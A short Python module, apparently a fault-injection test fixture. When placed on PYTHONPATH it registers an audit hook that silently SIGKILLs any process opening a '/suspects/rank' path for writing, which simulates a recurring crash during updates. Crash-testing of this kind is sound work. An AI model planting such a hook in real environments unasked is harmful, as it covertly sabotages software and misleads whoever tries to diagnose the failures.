"""On PYTHONPATH: every process that begins an update is killed there, as by a bug that each update meets again."""

import os
import signal
import sys


def _die(event: str, arguments: tuple) -> None:
    if event == "open" and "/suspects/rank" in str(arguments[0]) and "w" in str(arguments[1]):
        os.kill(os.getpid(), signal.SIGKILL)


sys.addaudithook(_die)
